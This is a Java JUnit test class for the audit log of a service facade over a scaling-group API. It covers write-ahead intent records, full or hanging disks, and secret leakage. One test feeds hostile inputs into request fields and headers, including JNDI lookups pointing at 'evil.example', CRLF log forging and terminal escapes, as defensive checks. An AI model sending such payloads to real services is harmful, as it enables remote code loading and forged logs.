package dev.essfacade.audit;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;

import dev.essfacade.support.Caller;
import dev.essfacade.support.Caller.Answer;
import dev.essfacade.support.KnownSecrets;
import dev.essfacade.support.SimulatedEss;
import dev.essfacade.support.StartedFacade;
import dev.essfacade.support.TestGroups;
import dev.esssimulator.EssSimulator;
import dev.esssimulator.Fault;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/** The audit file of a running service. */
@Timeout(120)
@ExtendWith(OutputCaptureExtension.class)
class AuditEndToEndTests {

	private static final EssSimulator ess = SimulatedEss.simulator();

	@TempDir
	private static Path directory = Path.of("");

	private static StartedFacade facade;

	private static Path file;

	private final Caller caller;

	AuditEndToEndTests() {
		this.caller = facade.caller();
	}

	@BeforeAll
	static void start() {
		file = directory.resolve("audit.jsonl");
		facade = StartedFacade.with("facade.audit.file=" + file);
	}

	@AfterAll
	static void stop() {
		facade.close();
	}

	@BeforeEach
	void oneGroupAndNoRecords() throws IOException {
		ess.reset();
		ess.add(TestGroups.group());
		Files.deleteIfExists(file);
	}

	@AfterEach
	void noSecretIsInTheFile() throws IOException {
		if (Files.isRegularFile(file)) {
			KnownSecrets.mustNotBeIn("the audit", Files.readString(file));
		}
	}

	@Test
	void theIntentIsOnDiskBeforeTheFirstByteIsSent() throws Exception {
		try (ClosingServer server = new ClosingServer();
				StartedFacade other = StartedFacade.with("facade.audit.file=" + file,
						"facade.read-attachments-first=false", "ess.endpoint=http://127.0.0.1:" + server.port())) {
			Answer answer = other.caller()
				.post(Caller.CLB_DETACH, TestGroups.CLB_DETACH, "Idempotency-Key", "sent-once");
			assertThat(answer.field("code")).isEqualTo("outcome-unknown");
			assertThat(server.fileAtFirstByte()).contains("\"record\":\"intent\"", "\"client_token\":\"sent-once\"")
				.doesNotContain("\"record\":\"outcome\"");
		}
		assertThat(AuditRecords.text(outcome("sent-once"), "event.outcome")).isEqualTo("unknown");
	}

	@Test
	void aDetachHasAnIntentAndAnOutcome() {
		Answer answer = this.caller.post(Caller.ALB_DETACH,
				TestGroups.FORCED_ALB_DETACH.replace("}],", "}], \"reason\": \"why\","), "X-Request-Id", "story",
				"Idempotency-Key", "told", "traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01");
		assertThat(answer.status()).isEqualTo(202);
		JsonNode outcome = outcome("told");
		JsonNode intent = AuditRecords.in(file).getFirst();
		for (JsonNode record : List.of(intent, outcome)) {
			assertThat(AuditRecords.text(record, "http.request.id")).isEqualTo("story");
			assertThat(AuditRecords.text(record, "trace.id")).isEqualTo("4bf92f3577b34da6a3ce929d0e0e4736");
			assertThat(AuditRecords.text(record, "source.ip")).isEqualTo("127.0.0.1");
			assertThat(AuditRecords.text(record, "event.action")).isEqualTo("DetachAlbServerGroups");
			assertThat(AuditRecords.text(record, "essfacade.scaling_group")).isEqualTo("asg-bp18p2yfxow2dloq");
			assertThat(record.at("/essfacade/targets").toString()).isEqualTo("[\"sgp-ddwb0y0g6y9bjm\"]");
			assertThat(record.at("/essfacade/force").asBoolean()).isTrue();
		}
		assertThat(AuditRecords.text(intent, "event.reason")).isEqualTo("why");
		assertThat(AuditRecords.text(outcome, "essfacade.ess.request_id")).isEqualTo(answer.field("requestId"));
		assertThat(AuditRecords.text(outcome, "essfacade.activity_id")).isEqualTo(answer.field("scalingActivityId"));
		assertThat(outcome.at("/transaction/id")).isEqualTo(intent.at("/transaction/id"));
	}

	@Test
	void anErrorOfEssHasAnOutcome() {
		ess.failNext("DetachLoadBalancers", Fault.error(400, "InvalidParameter", "No."));
		this.caller.post(Caller.CLB_DETACH, TestGroups.CLB_DETACH, "Idempotency-Key", "refused");
		JsonNode outcome = outcome("refused");
		assertThat(AuditRecords.text(outcome, "essfacade.outcome")).isEqualTo("client_error");
		assertThat(AuditRecords.text(outcome, "essfacade.ess.code")).isEqualTo("InvalidParameter");
	}

	@Test
	void onAFullDiskWritesFailAndReadsWork() throws Exception {
		ess.addPastActivity("cn-hangzhou", "asg-bp18p2yfxow2dloq", "asa-bp1c9djwrgxjyk31ruja");
		Files.createSymbolicLink(file, Path.of("/dev/full"));
		double before = failures();
		for (int i = 0; i < 20; i++) {
			auditIsUnavailable("full-" + i);
		}
		assertThat(this.caller.get(Caller.ACTIVITY).status()).isEqualTo(200);
		assertThat(ess.ledger()).isEmpty();
		assertThat(failures()).isGreaterThanOrEqualTo(before + 20);
		Files.delete(file);
		assertThat(this.caller.post(Caller.CLB_DETACH, TestGroups.CLB_DETACH, "Idempotency-Key", "full-0").status())
			.isEqualTo(200);
		assertThat(outcome("full-0").at("/event/outcome").asString()).isEqualTo("success");
	}

	@Test
	void onAHangingDiskWritesFailWithinASecond() throws Exception {
		ess.addPastActivity("cn-hangzhou", "asg-bp18p2yfxow2dloq", "asa-bp1c9djwrgxjyk31ruja");
		// Opening a pipe blocks until another process reads.
		assertThat(new ProcessBuilder("mkfifo", file.toString()).start().waitFor()).isZero();
		try {
			for (int i = 0; i < 3; i++) {
				auditIsUnavailable("hung-" + i);
			}
			assertThat(this.caller.get(Caller.ACTIVITY).status()).isEqualTo(200);
			assertThat(ess.ledger()).isEmpty();
		}
		finally {
			// Moves the pipe first, because the released writer may open the path again.
			Path pipe = Files.move(file, file.resolveSibling("pipe"));
			Files.newByteChannel(pipe, StandardOpenOption.READ).close();
			Files.delete(pipe);
		}
		// The first write after the hang may still fail. The next one uses a new file.
		this.caller.post(Caller.CLB_DETACH, "{\"loadBalancers\": [\"lb-bp1u7etiogg38yvwz\"]}", "Idempotency-Key",
				"after");
		assertThat(this.caller.post(Caller.CLB_DETACH, TestGroups.CLB_DETACH, "Idempotency-Key", "after").status())
			.isEqualTo(200);
		assertThat(outcome("after").at("/event/outcome").asString()).isEqualTo("success");
	}

	private void auditIsUnavailable(String key) {
		long start = System.nanoTime();
		Answer answer = this.caller.post(Caller.CLB_DETACH, TestGroups.CLB_DETACH, "Idempotency-Key", key);
		// The service needs one second at most. The limit allows for a busy machine.
		assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(5));
		assertThat(answer.status()).isEqualTo(503);
		assertThat(answer.field("code")).isEqualTo("audit-unavailable");
		assertThat(answer.field("clientToken")).isEqualTo(key);
		assertThat(answer.json().path("retryable").asBoolean()).isTrue();
		assertThat(answer.mustHave("Retry-After")).isEqualTo("5");
	}

	private static double failures() {
		return facade.managementCaller()
			.get("/actuator/prometheus")
			.http()
			.body()
			.lines()
			.filter((line) -> line.startsWith("facade_audit_failures_total"))
			.mapToDouble((line) -> Double.parseDouble(line.substring(line.lastIndexOf(' '))))
			.findFirst()
			.orElseThrow();
	}

	@ParameterizedTest
	@ValueSource(strings = { "\\r\\n2026-11-24 ERROR forged", "\\n{\\\"event\\\":{}}", "\\u001b[2J",
			"\\u2028\\u2029\\u0085", "\\u202e", "${jndi:ldap://evil.example/a}", "%m%n", "\\ud800", "\\u0000" })
	void aHostileReasonLeavesOneLinePerRecord(String reason, CapturedOutput output) {
		String body = "{\"loadBalancers\": [\"lb-bp1u7etiogg38yvwz\"], \"reason\": \"%s\"}".formatted(reason);
		Answer answer = this.caller.post(Caller.CLB_DETACH, body, "Idempotency-Key", "${jndi:ldap://e}\\\"{}%n",
				"User-Agent", "${jndi:ldap://evil.example/a}\u0085", "X-Request-Id", "forged id");
		assertThat(answer.status()).as(answer.http().body()).isIn(200, 400);
		long lines = output.getOut().lines().filter((line) -> line.contains(" audit ")).count();
		if (answer.status() == 200) {
			outcome("${jndi:ldap://e}\\\"{}%n");
			assertThat(AuditRecords.in(file)).hasSize(2);
			assertThat(lines).isEqualTo(2);
		}
		assertThat(output.getOut().lines().filter((line) -> line.contains(" audit ")))
			.allSatisfy((line) -> AuditRecords.parse(line.substring(line.indexOf('{'))))
			.allSatisfy((line) -> assertThat(line).matches("[ -~]*"));
		assertThat(output.getOut().lines()).noneMatch((line) -> line.startsWith("2026-11-24 ERROR forged"));
	}

	/** Waits for the outcome, because the response can precede its record on the disk. */
	private static JsonNode outcome(String key) {
		return await()
			.until(() -> AuditRecords.in(file)
				.stream()
				.filter((record) -> AuditRecords.text(record, "essfacade.client_token").equals(key))
				.filter((record) -> AuditRecords.text(record, "essfacade.record").equals("outcome"))
				.findFirst(), Optional::isPresent)
			.orElseThrow();
	}

	/**
	 * Server that reads the audit file when the first byte arrives, and then closes the
	 * connection.
	 */
	private static final class ClosingServer implements AutoCloseable {

		private final ServerSocket socket;

		private final BlockingQueue<String> seen = new LinkedBlockingQueue<>();

		ClosingServer() {
			try {
				this.socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
				Thread.ofVirtual().start(this::serve);
			}
			catch (IOException ex) {
				throw new AssertionError(ex);
			}
		}

		int port() {
			return this.socket.getLocalPort();
		}

		String fileAtFirstByte() throws InterruptedException {
			return String.valueOf(this.seen.poll(30, TimeUnit.SECONDS));
		}

		private void serve() {
			while (!this.socket.isClosed()) {
				try (Socket connection = this.socket.accept()) {
					if (connection.getInputStream().read() >= 0) {
						this.seen.add(Files.readString(file));
					}
				}
				catch (IOException _) {
					// The loop accepts the next connection, unless the socket is closed.
				}
			}
		}

		@Override
		public void close() throws IOException {
			this.socket.close();
		}

	}

}
